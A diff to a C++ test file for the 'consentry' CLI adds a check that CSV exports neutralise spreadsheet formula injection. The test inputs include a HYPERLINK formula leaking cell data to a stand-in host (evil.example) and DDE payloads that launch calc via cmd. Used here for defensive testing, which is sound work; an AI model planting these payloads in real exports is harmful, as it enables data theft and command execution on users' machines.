@@ -1,7 +1,7 @@
 // cli_output_test.cpp: what the consentry command writes, run as separate processes: output that
-// cannot be written fails the command, stored control characters cannot drive the terminal, and
-// exports and backups killed at any moment leave nothing under the file's name nor any temporary
-// that blocks or outlives the next run.
+// cannot be written fails the command, stored control characters cannot drive the terminal, CSV
+// cells cannot run as spreadsheet formulas, and exports and backups killed at any moment leave
+// nothing under the file's name nor any temporary that blocks or outlives the next run.
 #include <doctest/doctest.h>
 #include <fcntl.h>
 #include <sys/file.h>
@@ -259,6 +259,22 @@ TEST_CASE("read --json keeps a value with control characters exact in valid JSON
   const nlohmann::json j = nlohmann::json::parse(o.out);
   CHECK(j["fields"]["note"]["value"].get<std::string>() == kHostile);
   CHECK(contains(o.out, "Zo\u00eb \u5c71\u7530"));
+}
+
+TEST_CASE("a CSV export neutralises cells that a spreadsheet would run as formulas") {
+  for (const std::string& value :
+       {std::string("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), std::string("+cmd|' /C calc'!A0"),
+        std::string("@SUM(1+1)*cmd|' /C calc'!A0"), std::string("-2+3+cmd|' /C calc'!A0"),
+        std::string("\t=1+1"), std::string("\r=1+1")}) {
+    CAPTURE(value);
+    Vault v(value);
+    const CliOutput o = v.run({"export", "C-1", "--format", "csv"});
+    REQUIRE(o.code == 0);
+    std::string quoted = "\"'";
+    for (char c : value) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
+    quoted += '"';
+    CHECK(contains(o.out, "\r\nnote," + quoted + ",string,"));
+  }
 }
 
 TEST_CASE("an export killed at random moments leaves no temporary behind once a later export succeeds") {
